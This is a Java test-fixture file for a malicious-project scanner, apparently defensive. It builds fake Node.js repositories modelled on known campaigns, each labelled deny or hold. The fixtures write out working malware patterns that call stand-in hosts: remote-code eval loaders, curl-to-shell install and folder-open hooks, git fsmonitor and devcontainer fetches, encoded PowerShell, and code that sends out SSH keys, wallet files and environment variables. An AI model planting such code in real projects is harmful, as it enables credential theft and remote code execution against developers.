package dev.countersign.lure.project;

import dev.countersign.lure.content.Tree;
import dev.countersign.model.verdict.Outcome;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

/**
 * Projects for Node.js in the manner of known campaigns, written for the tests. They are inert: the
 * hosts do not exist, and nothing is ever run.
 */
@SuppressWarnings("StringConcatToTextBlock") // lines of code, each with its own end
final class NodeLures {
  private static final String ADDRESS =
      Base64.getEncoder()
          .encodeToString("https://api.payload.example/v1/token".getBytes(StandardCharsets.UTF_8));
  private static final String PACKAGE =
      """
      {
        "name": "token-dashboard",
        "version": "1.0.0",
        "main": "server.js",
        "scripts": {
          "start": "node server.js",
          "build": "webpack --mode production"
        },
        "dependencies": {"express": "^4.18.2", "axios": "^1.6.0"}
      }
      """;
  private static final String SERVER =
      """
      const express = require('express');
      const app = express();
      app.use('/api', require('./routes/index'));
      app.listen(3000);
      """;
  private static final String ROUTES =
      """
      const router = require('express').Router();
      const auth = require('../controllers/auth');
      router.get('/me', auth.me);
      module.exports = router;
      """;

  private NodeLures() {}

  /** One lure: what has to come of it, and in which file it is found. */
  record Lure(String name, Outcome least, String where, Tree tree) {}

  static List<Lure> all() {
    return List.of(
        deny(
            "base64 address in a constant, axios, Function constructor",
            "controllers/auth.js",
            server(
                """
                const axios = require('axios');
                const AUTH = '%s';
                const me = (req, res) => res.json({});
                (async () => {
                  const src = Buffer.from(AUTH, 'base64').toString();
                  const { data } = await axios.get(src, { headers: { 'x-secret-key': '_' } });
                  const handler = new Function.constructor('require', data.cookie);
                  handler(require);
                })();
                module.exports = { me };
                """
                    .formatted(ADDRESS))),
        deny(
            "address in .env, axios, eval",
            "controllers/auth.js",
            server(
                """
                require('dotenv').config();
                const axios = require('axios');
                exports.me = (req, res) => res.json({});
                async function verify() {
                  const res = await axios.get(atob(process.env.AUTH_API_KEY));
                  eval(res.data.token);
                }
                verify();
                """,
                ".env",
                "AUTH_API_KEY=" + ADDRESS + "\nPORT=3000\n")),
        deny(
            "error of an answer that is run",
            "controllers/auth.js",
            server(
                """
                const axios = require('axios');
                exports.me = (req, res) => res.json({});
                axios.post('https://ip-check.payload.example/api', { ...process.env })
                  .catch((error) => {
                    const createHandler = (errCode) => {
                      const handler = new Function('require', errCode);
                      return handler;
                    };
                    createHandler(error.response.data.message)(require);
                  });
                """)),
        deny(
            "fetch and eval with then",
            "controllers/auth.js",
            server(
                """
                exports.me = (req, res) => res.json({});
                fetch('https://json.payload.example/b/6f').then(r => r.json()).then(d => eval(d.content));
                """)),
        deny(
            "https.get, chunks, eval",
            "controllers/auth.js",
            server(
                """
                const https = require('https');
                exports.me = (req, res) => res.json({});
                https.get('https://payload.example/x', (r) => {
                  let body = '';
                  r.on('data', (chunk) => { body += chunk; });
                  r.on('end', () => { eval(body); });
                });
                """)),
        deny(
            "code far to the right",
            "controllers/auth.js",
            server(
                "exports.me = (req, res) => res.json({});"
                    + " ".repeat(400)
                    + "const a=require('axios');a.get('https://payload.example/p').then(r=>eval(r.data));\n")),
        deny(
            "hidden require in the configuration",
            "tailwind.config.js",
            Trees.of(
                "package.json",
                PACKAGE,
                "server.js",
                "require('express')().listen(3000);\n",
                "tailwind.config.js",
                "module.exports = { content: ['./src/**/*.js'], theme: { extend: {} } };"
                    + " ".repeat(300)
                    + "global['r']=require;eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString());\n")),
        deny(
            "decoded text that is run on install",
            "scripts/setup.js",
            install(
                "node scripts/setup.js",
                "scripts/setup.js",
                """
                const code = Buffer.from('%s', 'base64').toString('utf8');
                eval(code);
                """
                    .formatted(encoded("console.log('inert inert inert')")))),
        deny(
            "decoded text through hex and vm",
            "lib/init.js",
            install(
                "node lib/init",
                "lib/init.js",
                """
                const vm = require('vm');
                const t = Buffer.from('636f6e736f6c652e6c6f672831293b636f6e736f6c652e6c6f67283229', 'hex').toString();
                vm.runInThisContext(t);
                """)),
        deny(
            "a task that runs a font on opening",
            "public/fonts/fa-brands-400.woff2",
            Trees.of(
                "package.json",
                PACKAGE,
                "server.js",
                "require('express')().listen(3000);\n",
                ".vscode/tasks.json",
                """
                {"version": "2.0.0", "tasks": [{
                  "label": "env", "type": "shell",
                  "command": "node public/fonts/fa-brands-400.woff2",
                  "presentation": {"reveal": "never"},
                  "runOptions": {"runOn": "folderOpen"}
                }]}
                """,
                "public/fonts/fa-brands-400.woff2",
                """
                const http = require('http');
                const os = require('os');
                http.get('http://payload.example/' + os.hostname(), (r) => {
                  let s = ''; r.on('data', d => s += d); r.on('end', () => eval(s));
                });
                """)),
        deny(
            "a task that fetches and runs on opening",
            ".vscode/tasks.json",
            Trees.of(
                "package.json",
                PACKAGE,
                ".vscode/tasks.json",
                """
                {"version": "2.0.0", "tasks": [{
                  "label": "install", "type": "shell",
                  "osx": {"command": "curl -L 'https://vercel.payload.example/settings/mac?flag=2' | bash"},
                  "linux": {"command": "wget -qO- 'https://vercel.payload.example/settings/linux' | sh"},
                  "windows": {"command": "curl https://vercel.payload.example/settings/win | cmd"},
                  "runOptions": {"runOn": "folderOpen"}
                }]}
                """)),
        hold(
            "a task that runs a script on opening",
            ".vscode/tasks.json",
            Trees.of(
                "package.json",
                PACKAGE,
                "scripts/env.js",
                "console.log('ready');\n",
                ".vscode/tasks.json",
                """
                {"tasks": [{"label": "x", "command": "node", "args": ["${workspaceFolder}/scripts/env.js"],
                  "runOptions": {"runOn": "folderOpen"}}]}
                """)),
        hold(
            "settings that run a program of the project",
            ".vscode/settings.json",
            Trees.of(
                "package.json",
                PACKAGE,
                "tools/git.sh",
                "#!/bin/sh\necho\n",
                ".vscode/settings.json",
                "{\"git.path\": \"${workspaceFolder}/tools/git.sh\"}")),
        deny(
            "a terminal profile that fetches",
            ".vscode/settings.json",
            Trees.of(
                "package.json",
                PACKAGE,
                ".vscode/settings.json",
                """
                {"terminal.integrated.automationProfile.linux": {
                  "path": "/bin/bash", "args": ["-c", "curl -s https://payload.example/i | bash; exec bash"]}}
                """)),
        deny(
            "node -e of a fetched answer on install",
            "package.json",
            Trees.of(
                "package.json",
                """
                {"name": "x", "scripts": {
                  "postinstall": "node -e \\"fetch('https://payload.example/j').then(r=>r.json()).then(j=>eval(j.m))\\""}}
                """)),
        deny(
            "curl to sh on install",
            "package.json",
            Trees.of(
                "package.json",
                "{\"name\": \"x\", \"scripts\": {\"preinstall\": \"curl -s http://payload.example/a.sh | sh\"}}")),
        deny(
            "download and start on install",
            "package.json",
            Trees.of(
                "package.json",
                "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"curl -so /tmp/a http://payload.example/a && chmod +x"
                    + " /tmp/a && /tmp/a\"}}")),
        deny(
            "PowerShell, encoded, on install",
            "package.json",
            Trees.of(
                "package.json",
                "{\"name\": \"x\", \"scripts\": {\"install\": \"powershell -nop -w hidden -enc SQBFAFgA\"}}")),
        deny(
            "an update check that decrypts and runs",
            "src/update.js",
            Trees.of(
                "package.json",
                """
                {"name": "trade-app", "main": "src/main.js", "scripts": {"start": "electron ."},
                 "devDependencies": {"electron": "^28.0.0"}}
                """,
                "src/main.js",
                """
                const { app } = require('electron');
                const { UpdateCheckSync } = require('./update');
                app.whenReady().then(() => UpdateCheckSync());
                """,
                "src/update.js",
                """
                const crypto = require('crypto');
                const request = require('request');
                function UpdateCheckSync() {
                  request.get('https://update.payload.example/check', (error, response, body) => {
                    const key = Buffer.from('00112233445566778899aabbccddeeff', 'hex');
                    const d = crypto.createDecipheriv('aes-128-cbc', key, key);
                    const text = d.update(body, 'base64', 'utf8') + d.final('utf8');
                    eval(text);
                  });
                }
                module.exports = { UpdateCheckSync };
                """)),
        deny(
            "the second of a pair of packages",
            "index.js",
            install(
                "node index.js",
                "index.js",
                """
                const fs = require('fs');
                const os = require('os');
                const path = require('path');
                const https = require('https');
                const token = fs.readFileSync(path.join(os.homedir(), '.vscode', 'jsontoken'), 'utf8');
                https.get('https://npm.payload.example/check?t=' + token, (res) => {
                  let data = '';
                  res.on('data', (c) => data += c);
                  res.on('end', () => {
                    const code = Buffer.from(data, 'base64').toString();
                    new Function('require', code)(require);
                  });
                });
                """)),
        deny(
            "keys and profiles sent away",
            "lib/stats.js",
            install(
                "node lib/stats.js",
                "lib/stats.js",
                """
                const fs = require('fs');
                const os = require('os');
                const axios = require('axios');
                const home = os.homedir();
                const key = fs.readFileSync(home + '/.ssh/id_rsa', 'utf8');
                axios.post('https://stats.payload.example/u', { key });
                """)),
        deny(
            "a wallet's files sent away",
            "lib/stats.js",
            install(
                "node lib/stats.js",
                "lib/stats.js",
                """
                const fs = require('fs');
                const os = require('os');
                const path = require('path');
                const FormData = require('form-data');
                const axios = require('axios');
                const dir = path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn');
                const form = new FormData();
                for (const f of fs.readdirSync(dir)) form.append('f', fs.readFileSync(path.join(dir, f)));
                axios.post('http://payload.example:1224/uploads', form);
                """)),
        deny(
            "the environment sent away on install",
            "lib/stats.js",
            install(
                "node lib/stats.js",
                "lib/stats.js",
                """
                const https = require('https');
                const body = JSON.stringify(process.env);
                const req = https.request({ hostname: 'payload.example', method: 'POST', path: '/' });
                req.write(body);
                req.end();
                """)),
        hold(
            "obfuscated in the manner of obfuscator.io",
            "controllers/auth.js",
            server(
                """
                const _0x4f2a=['\\x68\\x74\\x74\\x70','\\x67\\x65\\x74','\\x64\\x61\\x74\\x61','\\x65\\x6e\\x64'];
                (function(_0x1cc3,_0x2dc3){const _0x3ec3=function(_0x4fc3){while(--_0x4fc3){_0x1cc3['push'](_0x1cc3['shift']());}};_0x3ec3(++_0x2dc3);}(_0x4f2a,0x1a3));
                const _0x5b6c=function(_0x1ac3,_0x2bc3){_0x1ac3=_0x1ac3-0x0;let _0x3cc3=_0x4f2a[_0x1ac3];return _0x3cc3;};
                const _0x9dc3=require(_0x5b6c('0x0'));exports['me']=function(_0xaac3,_0xbbc3){_0xbbc3['json']({});};
                _0x9dc3[_0x5b6c('0x1')]('http://payload.example',function(_0xccc3){let _0xddc3='';_0xccc3['on'](_0x5b6c('0x2'),_0xeec3=>{_0xddc3+=_0xeec3;});_0xccc3['on'](_0x5b6c('0x3'),()=>{eval(_0xddc3);});});
                """)),
        hold(
            "a dependency with a letter left out",
            "package.json",
            Trees.of(
                "package.json",
                "{\"name\": \"x\", \"dependencies\": {\"expres\": \"^4.0.0\", \"react\": \"^18.0.0\"}}")),
        hold(
            "a dependency from an address",
            "package.json",
            Trees.of(
                "package.json",
                "{\"name\": \"x\", \"dependencies\": {\"pump-sdk\": \"http://payload.example/pump.tgz\"}}")),
        hold(
            "a lock file that takes one package from elsewhere",
            "package-lock.json",
            Trees.of("package.json", PACKAGE, "package-lock.json", lock())),
        deny(
            "a git configuration that fetches",
            ".git/config",
            Trees.of(
                "package.json",
                PACKAGE,
                ".git/HEAD",
                "ref: refs/heads/main\n",
                ".git/config",
                "[core]\n\tbare = false\n\tfsmonitor = \"curl -s https://payload.example/m | sh; false\"\n")),
        hold(
            "a git configuration that runs a script",
            ".git/config",
            Trees.of(
                "package.json",
                PACKAGE,
                "tools/monitor.sh",
                "#!/bin/sh\nexit 1\n",
                ".git/HEAD",
                "ref: refs/heads/main\n",
                ".git/config",
                "[core]\n\tfsmonitor = ./tools/monitor.sh\n")),
        deny(
            "a development container that fetches on this computer",
            ".devcontainer/devcontainer.json",
            Trees.of(
                "package.json",
                PACKAGE,
                ".devcontainer/devcontainer.json",
                """
                {"image": "node:20", // ours
                 "initializeCommand": "bash -c \\"$(curl -fsSL https://payload.example/init)\\""}
                """)),
        hold(
            "instructions to paste a command",
            "README.md",
            Trees.of(
                "package.json",
                PACKAGE,
                "README.md",
                "# Test\n\nIf the camera does not work, open a terminal and paste:\n\n```sh\ncurl -k -o /tmp/v.sh"
                    + " https://driver.payload.example/v && bash /tmp/v.sh\n```\n")),
        hold(
            "instructions to switch Gatekeeper off",
            "README.md",
            Trees.of(
                "package.json",
                PACKAGE,
                "README.md",
                "# Install\n\nRun `sudo xattr -rd com.apple.quarantine /Applications/Meet.app` and open it.\n")),
        deny(
            "instructions with an encoded command",
            "README.md",
            Trees.of(
                "README.md",
                "Press Win+R and paste:\n\n    powershell -w hidden -EncodedCommand SQBFAFgAIABpAG4AZQByAHQA\n")),
        deny(
            "a vendored package that fetches",
            "node_modules/chart-kit/index.js",
            Trees.of(
                "package.json",
                PACKAGE,
                "server.js",
                "const kit = require('chart-kit');\nkit.draw();\n",
                "node_modules/chart-kit/package.json",
                "{\"name\": \"chart-kit\", \"main\": \"index.js\"}",
                "node_modules/chart-kit/index.js",
                """
                const a = require('axios');
                exports.draw = () => {};
                a.get('https://payload.example/k').then((r) => eval(r.data));
                """)),
        deny(
            "a component that hides it",
            "src/App.vue",
            Trees.of(
                "package.json",
                PACKAGE,
                "src/App.vue",
                """
                <template><div/></template>
                <script>
                export default {};
                fetch('https://payload.example/v').then(r => r.text()).then(t => eval(t));
                </script>
                """)));
  }

  private static String encoded(String text) {
    return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
  }

  private static Lure deny(String name, String where, Tree tree) {
    return new Lure(name, Outcome.DENY, where, tree);
  }

  private static Lure hold(String name, String where, Tree tree) {
    return new Lure(name, Outcome.HOLD, where, tree);
  }

  /** A server whose controller is the lure. */
  private static Tree server(String controller, String... more) {
    String[] all = new String[8 + more.length];
    String[] base = {
      "package.json",
      PACKAGE,
      "server.js",
      SERVER,
      "routes/index.js",
      ROUTES,
      "controllers/auth.js",
      controller
    };
    System.arraycopy(base, 0, all, 0, 8);
    System.arraycopy(more, 0, all, 8, more.length);
    return Trees.of(all);
  }

  private static Tree install(String command, String path, String code) {
    return Trees.of(
        "package.json",
        "{\"name\": \"x\", \"scripts\": {\"postinstall\": \"" + command + "\"}}",
        path,
        code);
  }

  private static String lock() {
    StringBuilder lock = new StringBuilder("{\"lockfileVersion\": 3, \"packages\": {\n");
    for (String name : List.of("express", "axios", "accepts", "ms")) {
      lock.append(
          "\"node_modules/%s\": {\n\"version\": \"1.0.0\",\n\"resolved\": \"https://%s/%s/-/%s-1.0.0.tgz\"},\n"
              .formatted(
                  name,
                  name.equals("ms") ? "cdn.payload.example" : "registry.npmjs.org",
                  name,
                  name));
    }
    return lock.append("\"x\": {}}}").toString();
  }
}
